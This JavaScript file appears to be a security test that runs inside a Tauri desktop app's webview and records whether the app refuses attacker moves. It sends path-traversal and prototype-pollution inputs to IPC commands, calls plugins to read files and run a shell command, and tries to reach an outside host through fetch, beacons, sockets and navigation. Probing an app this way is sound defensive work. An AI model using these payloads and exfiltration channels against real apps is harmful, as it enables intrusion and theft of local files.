// What somebody would try who can run a script in the page. Answers what became of it; the test judges.
const [what, given, done] = arguments;
const internals = window.__TAURI_INTERNALS__;
const pause = (milliseconds) => new Promise((go) => setTimeout(go, milliseconds));

/** What becomes of a command, at the latest after a while. */
async function called(command, args, patience = 20000) {
  const outcome = internals.invoke(command, args).then(
    (value) => ({ outcome: "answered", said: JSON.stringify(value) ?? "" }),
    (error) => ({ outcome: "refused", said: JSON.stringify(error) ?? String(error) }),
  );
  const late = pause(patience).then(() => ({ outcome: "silent", said: "" }));
  const { outcome: became, said } = await Promise.race([outcome, late]);
  return { command, args: JSON.stringify(args).slice(0, 300), outcome: became, said: said.slice(0, 100000) };
}

const channel = () => `__CHANNEL__:${internals.transformCallback(() => {})}`;

/** Arguments that have their form, so that a command does not stop at it. */
const shaped = () => ({
  job: `enemy-${Math.random()}`,
  channel: channel(),
  draft: { system: "bird", name: given.secret, values: { baseUrl: "file:///etc/passwd", workspaceId: "../.." } },
  edit: { startMs: 0, endMs: 4294967295, cutSilence: true, fadeInMs: 4294967295, fadeOutMs: 0, level: null, rate: "wide" },
  crop: { x: -1e308, y: 1e308, side: 1e308, rotation: 1e308 },
  source: { kind: "chosen", token: given.secret, from: 1e308, to: -1 },
  query: { name: "\u0000", ids: ["../.."], sort: null },
  drop: { index: 4294967295, id: null, name: null, mediaUrl: given.elsewhere },
  fault: { source: "window", message: "A".repeat(1 << 20), stack: null },
  question: { connections: ["../.."], only: null, zone: "../../etc/localtime", firstDay: 1, weeksAhead: 2147483647 },
  learned: { from: "/../..", value: null, label: null },
  media: "avatar",
  format: "csv",
  system: "bird",
});

const odd = () => [
  null,
  0,
  -1,
  1e308,
  true,
  "",
  [],
  {},
  "../../../../etc/passwd",
  given.secret,
  `file://${given.secret}`,
  given.elsewhere,
  "\u0000\u202e\ud800",
  "{name}",
  "00000000-0000-4000-8000-000000000000",
  "A".repeat(1 << 20),
  JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{}}}'),
  { $masked: { mark: "0000", at: "/" }, $number: "1e999999999" },
  [[[[[[[[[[]]]]]]]]]],
];

const deeds = {
  /** Every command with arguments of other types, and with those that have their form. */
  async commands() {
    const found = [];
    for (const { command, names } of given.commands) {
      const values = odd();
      const rounds = values.map((_, round) =>
        Object.fromEntries(names.map((name, at) => [name, values[(round + at * 5) % values.length]])),
      );
      for (const round of [...rounds]) {
        const kept = Object.fromEntries(Object.entries(shaped()).filter(([name]) => names.includes(name)));
        rounds.push({ ...round, ...kept });
      }
      found.push(...(await Promise.all(rounds.map((args) => called(command, args)))));
    }
    return found;
  },
  /** Commands with a real connection and agent, and an address or a file of the enemy's. */
  async targeted() {
    const { connection, agent, elsewhere, secret } = given;
    const address = { connection, agent, mediaUrl: elsewhere };
    const tokens = [secret, `file://${secret}`, `../../${secret}`, "0", "1", "", "undefined"];
    const tries = [
      () => called("stored_length", { ...address, job: "e1", channel: channel() }),
      () => called("stored_length", { ...address, mediaUrl: `file://${secret}`, job: "e2", channel: channel() }),
      () => called("play", { source: { kind: "stored", ...address }, channel: channel() }),
      () => called("copy_drop", {
        connection,
        agent,
        drop: { index: 0, id: null, name: null, mediaUrl: elsewhere },
        targets: [agent],
        job: "e3",
        channel: channel(),
      }),
      ...tokens.flatMap((token, at) => [
        () => called("inspect_picture", { token }),
        () => called("inspect_sound", { token, job: `t${at}`, channel: channel() }),
        () => called("preview_calendar", { token }),
        () => called("sound_view", { token, from: 0, to: 1, buckets: 4294967295 }),
        () => called("play", { source: { kind: "chosen", token, from: 0, to: null }, channel: channel() }),
        () => called("choose_kept_recording", { id: token, name: "x" }),
        () => called("delete_recording", { id: token }),
        () => called("upload_avatar", {
          connection,
          agent,
          token,
          crop: { x: 0, y: 0, side: 1, rotation: 0 },
          job: `u${at}`,
          channel: channel(),
        }),
      ]),
    ];
    const found = [];
    // One after the other: each asks the keychain.
    for (const run of tries) {
      found.push(await run());
    }
    return found;
  },
  /** What belongs to Tauri and its plug-ins and not to this window. */
  async plugins() {
    const { elsewhere, secret } = given;
    return Promise.all([
      called("plugin:opener|open_url", { url: elsewhere }),
      called("plugin:opener|open_path", { path: secret }),
      called("plugin:opener|reveal_item_in_dir", { paths: [secret] }),
      called("plugin:fs|read_text_file", { path: secret }),
      called("plugin:fs|write_text_file", { path: secret, contents: "" }),
      called("plugin:shell|execute", { program: "sh", args: ["-c", `touch ${secret}.made`] }),
      called("plugin:store|load", { path: "callboard.json" }),
      called("plugin:dialog|open", { options: {} }),
      called("plugin:log|log", { level: 5, message: "x" }),
      called("plugin:window|create", { options: { label: "second", url: elsewhere } }),
      called("plugin:webview|create_webview_window", { options: { label: "second", url: elsewhere } }),
      called("plugin:window|close", { label: "main" }),
      called("plugin:event|emit", { event: "files-dropped", payload: {} }),
      called("plugin:path|resolve_directory", { directory: 1 }),
      called("plugin:app|version", {}),
      called("plugin:resources|close", { rid: 1 }),
      called("no_such_command", {}),
    ]);
  },
  /** Every way of a page to speak to another host. */
  async hosts() {
    const { elsewhere, secret } = given;
    const tries = {
      fetch: () => fetch(elsewhere).then((answer) => answer.text()),
      post: () => fetch(elsewhere, { method: "POST", mode: "no-cors", body: "x", keepalive: true }),
      file: () => fetch(`file://${secret}`).then((answer) => answer.text()),
      media: () => fetch("callboard-media://localhost/chosen/x").then((answer) => answer.text()),
      ipc: async () => {
        const answer = await fetch("ipc://localhost/start_up", { method: "POST", body: "{}" });
        if (!answer.ok) {
          throw new Error(await answer.text());
        }
        return answer.text();
      },
      xhr: () =>
        new Promise((loaded, failed) => {
          const request = new XMLHttpRequest();
          request.open("GET", elsewhere);
          request.onload = () => loaded(request.responseText);
          request.onerror = () => failed(new Error("xhr"));
          request.send();
        }),
      socket: () =>
        new Promise((opened, failed) => {
          const socket = new WebSocket(elsewhere.replace("http", "ws"));
          socket.onopen = () => opened("");
          socket.onerror = () => failed(new Error("socket"));
        }),
      events: () =>
        new Promise((opened, failed) => {
          const source = new EventSource(elsewhere);
          source.onopen = () => opened("");
          source.onerror = () => {
            source.close();
            failed(new Error("events"));
          };
        }),
      beacon: async () => {
        navigator.sendBeacon(elsewhere, "x");
        throw new Error("beacon");
      },
      worker: () =>
        new Promise((_, failed) => {
          new Worker(elsewhere).onerror = () => failed(new Error("worker"));
        }),
      module: () => import(elsewhere),
      eval: async () => new Function("return 1")(),
      inline: async () => {
        const script = document.createElement("script");
        script.textContent = "window.enemyRan = true";
        document.head.append(script);
        if (window.enemyRan !== true) {
          throw new Error("inline");
        }
        return "";
      },
      connection: async () => {
        new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(elsewhere).host}` }] }).createDataChannel("x");
        throw new Error("connection");
      },
    };
    const elements = [
      ["img", "src"],
      ["script", "src"],
      ["iframe", "src"],
      ["embed", "src"],
      ["object", "data"],
      ["video", "src"],
      ["audio", "src"],
      ["link", "href", { rel: "stylesheet" }],
      ["link", "href", { rel: "icon" }],
      ["link", "href", { rel: "preload", as: "image" }],
      ["link", "href", { rel: "prefetch" }],
      ["link", "href", { rel: "manifest" }],
    ];
    for (const [name, attribute, more] of elements) {
      for (const address of [elsewhere, `file://${secret}`]) {
        tries[`${name} ${more?.rel ?? ""} ${address.slice(0, 4)}`] = () =>
          new Promise((loaded, failed) => {
            const element = Object.assign(document.createElement(name), more ?? {});
            element.onload = () => {
              // A frame that was refused loads an empty page.
              (name === "iframe" || name === "object" || name === "embed" ? failed : loaded)(new Error(name));
            };
            element.onerror = () => failed(new Error(name));
            element.setAttribute(attribute, address);
            document.body.append(element);
            setTimeout(() => element.remove(), 3000);
          });
      }
    }
    const styled = document.createElement("p");
    styled.style.backgroundImage = `url(${elsewhere})`;
    document.body.append(styled);
    const found = await Promise.all(
      Object.entries(tries).map(async ([command, run]) => {
        const late = pause(4000).then(() => ({ outcome: "refused", said: "nothing came" }));
        const outcome = (async () => run())().then(
          (value) => ({ outcome: "answered", said: String(value) }),
          (error) => ({ outcome: "refused", said: String(error) }),
        );
        return { command, args: "", ...(await Promise.race([outcome, late])) };
      }),
    );
    styled.remove();
    return found;
  },
  /** Pictures that nobody was given a token for. */
  async pictures() {
    const paths = [
      "chosen/0",
      "chosen/..%2F..%2F..%2Fetc%2Fpasswd",
      `chosen/${encodeURIComponent(given.secret)}`,
      `chosen/${encodeURIComponent(`file://${given.secret}`)}`,
      `${given.secret}`,
      "../../etc/passwd",
      "%2e%2e/%2e%2e/etc/passwd",
      `avatar/${given.connection}/..%2F../v`,
      `avatar/${given.connection}/%00/v`,
      "avatar/%FF/%FF/%FF",
      ...Array.from({ length: 100 }, () => `chosen/${crypto.randomUUID()}`),
    ];
    return Promise.all(
      paths.map(
        (path) =>
          new Promise((found) => {
            const picture = new Image();
            picture.onload = () => found({ command: path, args: "", outcome: "answered", said: "a picture" });
            picture.onerror = () => found({ command: path, args: "", outcome: "refused", said: "" });
            picture.src = internals.convertFileSrc("", "callboard-media") + path;
          }),
      ),
    );
  },
  /** Ways to leave the page, or to open another. */
  async leaving() {
    const { elsewhere, secret } = given;
    const addresses = [
      elsewhere,
      "https://example.invalid/",
      "callboard-media://localhost/chosen/x",
      `file://${secret}`,
      "data:text/html,<h1>gone</h1>",
      "javascript:document.body.replaceChildren()",
      "about:blank",
      "ipc://localhost/start_up",
      "tauri://elsewhere/",
      "mailto:somebody@example.invalid",
      URL.createObjectURL(new Blob(["<h1>gone</h1>"], { type: "text/html" })),
    ];
    const found = [];
    const link = (address, more) => {
      const made = Object.assign(document.createElement("a"), { href: address, ...more });
      document.body.append(made);
      made.click();
      made.remove();
    };
    const form = (address, method) => {
      const made = Object.assign(document.createElement("form"), { action: address, method });
      document.body.append(made);
      made.submit();
      made.remove();
    };
    const ways = {
      open: (address) => {
        if (window.open(address) !== null) {
          found.push({ command: `open ${address}`, args: "", outcome: "answered", said: "" });
        }
      },
      link: (address) => link(address, {}),
      blank: (address) => link(address, { target: "_blank", ping: elsewhere }),
      download: (address) => link(address, { download: "enemy.html" }),
      get: (address) => form(address, "get"),
      post: (address) => form(address, "post"),
      refresh: (address) => {
        const made = Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: `0;url=${address}` });
        document.head.append(made);
        made.remove();
      },
      location: (address) => {
        window.location.href = address;
      },
    };
    for (const address of addresses) {
      try {
        ways[given.way](address);
      } catch (error) {
        found.push({ command: `${given.way} ${address}`, args: "", outcome: "refused", said: String(error) });
      }
      await pause(150);
      const gone = document.querySelector("#root > *") === null;
      const outcome = gone ? "answered" : "refused";
      found.push({ command: `${given.way} ${address}`, args: "", outcome, said: location.href });
    }
    return found;
  },
};

deeds[what]().then(done, (error) => done([{ command: what, args: "", outcome: "broke", said: String(error) }]));
